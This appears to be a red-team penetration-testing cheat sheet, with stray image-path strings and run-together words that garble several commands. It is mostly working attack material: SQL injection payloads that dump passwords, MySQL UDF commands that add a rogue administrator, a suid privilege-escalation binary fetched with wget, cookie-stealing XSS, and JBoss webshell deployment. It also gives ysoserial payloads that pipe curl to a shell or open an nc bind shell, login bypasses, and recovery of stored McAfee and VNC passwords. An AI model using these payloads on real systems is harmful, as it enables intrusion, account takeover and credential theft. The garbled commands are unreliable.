#Find number of columns return by the Select statement
?id=738 order by 1,2,3,4...n until error is received

#Use union select statement to append query to the original

#union Select statement must have same number of columns as original Select statement
?id=738 union select 1,2,3,4,5,6

#Get DB Version
?id=738 union select 1,2,3,4,@@version,6

#Get DBUser
?id=738 union select 1,2,3,4,user(),6

#Get tables from all databases
?id=738 union all select 1,2,3,4,table_name,6 FROM information_schema.tables

#Get Table Columns
?id=738 union select 1,2,3,4,column_name,6 FROM information_schema.columns where table_name='users'

#Get User passwords
?id=738 union select 1,2,3,4,concat(name,0x3a,password),6 FROM users

SQL Joins#FULL All SELECT something FROM tableA A FULL OUTER JOIN tableB B ON A.KEY = B.KEY #A partial B SELECT something FROM tableA A LEFT JOIN tableB B on A.Key = B.Key #B Partial A SELECT something FROM tableA A RIGHT JOIN tableB B on A.Key = B.Key #A no B SELECT something FROM tableA A LEFT JOIN tableB B on A.Key = B.Key WHERE B.Key IS NULL # Outer SELECT something FROM tableA A FULL OUTER JOIN tableB B on A.Key = B.Key WHERE A.Key IS NULL OR B.Key IS NULL # Inner SELECT something FROM tableA A FULL INNER JOIN tableB B on A.Key = B.Key


[mysqldir]/bin/mysql-h hostname-u root --password=pass

select @@version
select @@servername

mysql> show databases;
mysql> use [db name];
mysql> show tables;
mysql> describe [table name];
mysql> SELECT * FROM [table name];UDF Install for Command Execution

User Defined Functions by Platform



Load MYSQLUDF for Linux

use test;
create table udf(line blob);
insert into udfvalues(load_file('/tmp/udf/'));
select * from udfinto dumpfile'/usr/lib/';
create function sys_exec returns integer soname'';
select sys_exec('id > /tmp/out; chownapache.apache /tmp/out');
select sys_exec('ls -alh/root/Desktop/ >> /tmp/out');
select sys_exec('ls /etc/sudoers>> /tmp/out');

Upload suid.c program

wget http://ip:port/privex/mysql/suid-o /tmp/suid
chownroot:root /tmp/suid
chmod4777 /tmp/suid

Load MYSQLUDFfor Windows

USE mysql;
CREATE TABLE npn(line blob);
INSERT INTO npn values(load_files('C://xampplite//webdav//lib_mysqludf_sys.dll'));
SELECT * FROM mysql.npnINTO DUMPFILE'c://windows//system32//lib_mysqludf_sys_32.dll';
CREATE FUNCTION sys_exec RETURNS integer SONAME'lib_mysqludf_sys_32.dll';
SELECT sys_exec("net user hacker hacker1234!@#$ /add");
SELECT sys_exec("net localgroupAdministrators hacker /add");
s_exec('net localgroup"Remote Desktop Users" hacker /add');Automated website crawl and test of SQLi

python -u --forms --batch --crawl=10 --cookie=jsessionid=12345 --level=5 --risk=3


Grab cookiedocument.write('<img src="' + document.cookie + '" />')

XSS via image tag

<img src="x" />

Server-side Javascript Injection via Node or ElementJS

File system directory listing


File read


Cold Fusion

JMPESPJUMP – Attacking Adobe Cold Fusion

Decrypt CFM Files back to sourceCF RDS Logon Bypass (Create this html file locally and submit to obtain a auth session)

For ColdFusion 6 and 7 the passwords for DataSources encrypted in the following XML files:

  • [ColdFusion_Install_Dir]\lib\neo-query.xml

For ColdFusion 8, 9 and 10:

  • [ColdFusion_Install_Dir]\lib\neo-datasource.xml



Default credential is “admin:admin”

0. Host your .jar/.war payload with webshell on local webserver

1. Navigate to the JMX Console on the target host (http://IP.Ad.dr.ess:port/jmx-console/) and search for “service=MainDeployer”.2. From here you’ll want to utilize the deploy() function since it allows you to enter a URL as a parameter value in In this field, enter your attack IP and the name of the WAR file in the URL box and then click the “Invoke” button.

Other ways to gain execution

* jboss.deployment
* jboss.system (MainDeployer)
* http://localhost:8080/invoker/JMXInvokerServlet
* Java Deserialization Vuln via JMXInvokerServlet

Auto-check and exploitation tool (

git clone
cd jexboss
pip install -r requires.txt
python -h
python -host http://target_host:8080Java Deserialization

Java Deserialization Cheat Sheet

How to get a full shell through Java Runtime.exec

Ysoserial payload to execute full commands

sh -c$@|sh . ```

Generate a ysoserial payload to tell server to download further commands via curl and pipe to shell

java -jar ysoserial-0.0.4-all.jar CommonsCollections1 ‘sh -c $@|sh . curl |sh’ > jenkins_curl_shell.bin

Generate a ysoserial payload to execute nc bind shell

java -jar ysoserial-0.0.4-all.jar CommonsCollections1 ‘sh -c $@|sh . nc -lp 8088 -e /bin/bash’ > nc-jenkins.out

### JMXInvokerServlet

./ysoserial-master-v0.0.4-gad26e2b-61.jar CommonsCollections5 “touch /tmp/pwned” >payload.txt

Generate payload with yososerial and send with Burp. You will get a jboss.invocation.InvocationException response on success or failure. Ensure the headers match these:

POST /invoker/JMXInvokerServlet HTTP/1.1
Host: <hostname/IP>:8080
Content-Type:application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue
Content-Length: 2083### PHP LFI Read File (without executing)

LFI Read PHP session file for current sessionid

Create PHP backdoor/shell (windows):

echo ^ “`

PHP Command Execution Example@extract ($_REQUEST);
@die ($page($help));

PHP Type Juggling

Bypass login authentication with PHP Type juggling by forcing a null condition in a string comparison.

Add [] after a POST parameter“?user_id[]=user22” to force a NULL (zero-like) condition when comparing a string and an array

Web Sockets

There are still relatively few dec ent Web Socket testing tools and most aren’t very mature:

  • BurpSuite – Limited options to view web socket communication, but no ability to edit or replay traffic
  • ZAP Proxy – Ability to modify, replay, and fuzz web sockets, but still relatively clumsy
  • WSSiP– WebSocket Manipulation Proxy – Application for capturing, modifying and sending customWebSocket data from client to server and vice versa.


Things that don’t seem to fit elsewhere!

Canary Tokens

Tokens consist of a unique identifier (which can be embedded in either HTTP URLs or in hostnames.) Whenever that URL is requested, or the hostname is resolved, we send a notification email to the address tied to the token. You can get one in seconds, using just your browser.

To obtain a token:

1. Visit
2. Enter your email address. (It's only used to notify you when the token is triggered, mails are not used for any other purpose.)
3. Enter a comment which describes where you're using the token. If the token is triggered in six months time, a comment will help you remember where you placed the token. Be specific (e.g. "file watch on" or "Password lure email in inbox". We envisage having loads of tokens, so a good description is necessary.
4. Click "Generate Token" to obtain your token.
5. Copy the token and drop it somewhere it will be stumbled over.

Python SSL Web Server

Create PEM file

openssl req -newkey rsa:2048 -x509 -keyout cakey.pem -out cacert.pem -days 3650

To concatenate the private key and public certificate into a pem file (which is required for many web-servers ) :

cat cakey.pem cacert.pem > server.pem

Python codeimport BaseHTTPServer, SimpleHTTPServer
import ssl

httpd = BaseHTTPServer.HTTPServer(('localhost', 4443), SimpleHTTPServer.SimpleHTTPRequestHandler)
httpd.socket = ssl.wrap_socket (httpd.socket, certfile='./server.pem', server_side=True)

McAfee SiteList.xml decryption

Sometimes DA and other admin level account passwords are stored in Sitelist.xml files on local hosts

type "C:\ProgramData\McAfee\Common Framework\SiteList.xml" |findstr Password

╰ $ ./ f2mwBTzPQdtnY6QNOsVexH9psAU8z0HbZ2OkDTrFXsR/abAFPM9B3Q==
Crypted password : f2mwBTzPQdtnY6QNOsVexH9psAU8z0HbZ2OkDTrFXsR/abAFPM9B3Q==
Decrypted password :

git clone

TightVNC Password Retrieval

Retrieve TightVNC registry keys


Copy password from reg query output

Password REG_BINARY 7228098734BBBA06
ControlPassword REG_BINARY 435D7A037B9FDC2B

Download vncpwd.exe or other VNC password decoder

wine vncpwd.exe 7228098734BBBA06

Password Lists

AIX PasswordsConvert AIX passwd file to john format

cat $1|egrep ":|password" | sed 's/password = //g' | tr -d "\t " |sed ':a;N;$!ba;s/:\n/:/g'

Decompiling .NET Binaries

Magic Hashes


Use Case 1: Use the “Magic” Number below as a password or as a string that you expect to be hashed. When it is compared against the hash of the actual value, and if they both are treated as “0” and therefore evaluated as true, you will be able to log into the account without the valid password. This could be forced to happen in environments where automatic passwords are chosen for users during a forgot password flow and then attempting to log in immediately afterwards, as an example.


Use Case 2: The attacker can simply take the example in the Hash column in the table below and use itas a value. In some cases these values are simply done as a look-up against known values (in memory, or perhaps dumped from a database and compared). By simply submitting the hash value, the magic hash may collide with other hashes which both are treated as “0” and therefore compare to be true. This could be caused to happen



HashType HashLength “Magic”Number Magic Hash Found By
md2 32 505144726 0e015339760548602306096794382326 WhiteHat Security, Inc.
md4 32 48291204 0e266546927425668450445617970135 WhiteHat Security, Inc.
md5 32 240610708 0e462097431906509019562988736854 Michal Spacek
sha1 40 10932435112 0e07766915004133176347055865026311692244 Independently found by Michael A. Cleverly & Michele Spagnuolo & Rogdham
sha224 56
sha256 64
sha384 96
sha512 128
ripemd128 32 315655854 0e251331818775808475952406672980 WhiteHat Security, Inc.
ripemd160 40 20583002034 00e1839085851394356611454660337505469745 Michael A Cleverly
ripemd256 64
ripemd320 80
whirlpool 128
tiger128,3 32 265022640 0e908730200858058999593322639865 WhiteHat Security, Inc.
tiger160,3 40 13181623570 00e4706040169225543861400227305532507173 Michele Spagnuolo
tiger192,3 48
tiger128,4 32 479763000 00e05651056780370631793326323796 WhiteHat Security, Inc.
tiger160,4 40 62241955574 0e69173478833895223726165786906905141502 Michele Spagnuolo
tiger192,4 48
snefru 64
snefru256 64
gost 64
adler32 8 FR 00e00099 WhiteHat Security, Inc.crc32 8 2332 0e684322 WhiteHat Security, Inc.
crc32b 8 6586 0e817678 WhiteHat Security, Inc.
fnv132 8 2186 0e591528 WhiteHat Security, Inc.
fnv164 16 8338000 0e73845709713699 WhiteHat Security, Inc.
joaat 8 8409 0e074025 WhiteHat Security, Inc.
haval128,3 32 809793630 00e38549671092424173928143648452 WhiteHat Security, Inc.
haval160,3 40 18159983163 0e01697014920826425936632356870426876167 Independently found by Michael Cleverly & Michele Spagnuolo
haval192,3 48 48892056947 0e4868841162506296635201967091461310754872302741 Michael A. Cleverly
haval224,3 56
haval256,3 64
haval128,4 32 71437579 0e316321729023182394301371028665 WhiteHat Security, Inc.
haval160,4 40 12368878794 0e34042599806027333661050958199580964722 Michele Spagnuolohaval192,4 48
haval224,4 56
haval256,4 64
haval128,5 32 115528287 0e495317064156922585933029613272 WhiteHat Security, Inc.
haval160,5 40 33902688231 00e2521569708250889666329543741175098562 Michele Spagnuolo
haval192,5 48 528886405560e9108479697641294204710754930487725109982883677 Michele Spagnuolo
haval224,5 56haval256,5 64

About James Tubberville

James Tubberville has held a number of technical positions and management roles over a 18 year career focused on system, network, application and information security. James is a former member and lead for a NSA certified Red Team and has conducted threat computer network operations, red teaming, penetration testing, and physical security assessments for a variety of commercial and government customers. As a security professional, James has achieved numerous information technology and security relatedcertifications and awards. James is also co-author for the SANScourse SEC564: Red TeamOperations and Threat Emulation.